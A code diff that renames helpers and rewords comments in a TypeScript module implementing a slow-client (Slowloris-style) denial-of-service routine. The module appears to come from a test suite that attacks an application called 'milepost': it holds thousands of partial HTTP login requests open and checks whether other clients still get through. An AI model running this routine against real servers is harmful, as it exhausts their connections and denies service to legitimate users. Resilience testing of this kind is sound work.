@@ -1,5 +1,5 @@
 import type { Socket } from 'node:net'
-import { type Attack, asMany, unless } from '../attack'
+import { type Attack, attemptCount, unexpectedStatus } from '../attack'
 import { askRaw, open } from '../sending'
 
 const ROUNDS = 10
@@ -9,16 +9,16 @@ const BEGINNINGS = [
   'POST /api/auth/login HTTP/1.1\r\nHost: milepost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"email": "',
   'POST /api/auth/login HTTP/1.1\r\nHost: milepost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n',
 ]
-/** What follows each beginning, a little at a time. */
+/** What follows each beginning, sent slowly. */
 const MORE = ['x', 'x', '1\r\nx\r\n']
 
-/** Connections that send a byte now and then and never come to an end. */
+/** Connections that occasionally send a byte and never finish. */
 export const slowClients: Attack = {
   name: 'slow clients',
   run: async (stage) => {
     const { victim, tried } = stage
     const sockets: Socket[] = []
-    const count = asMany(stage, 1000, 3000)
+    const count = attemptCount(stage, 1000, 3000)
     while (sockets.length < count) {
       const socket = await open(victim.url)
       socket.on('error', () => undefined)
@@ -29,7 +29,7 @@ export const slowClients: Attack = {
       sockets.forEach((socket, at) => void socket.write(MORE[at % 3] ?? ''))
       await Bun.sleep(PAUSE)
       const ping = 'GET /api/config HTTP/1.1\r\nHost: milepost\r\n\r\n'
-      tried(unless('somebody else', await askRaw(victim.url, ping), 200))
+      tried(unexpectedStatus('somebody else', await askRaw(victim.url, ping), 200))
     }
     for (const socket of sockets) {
       tried()
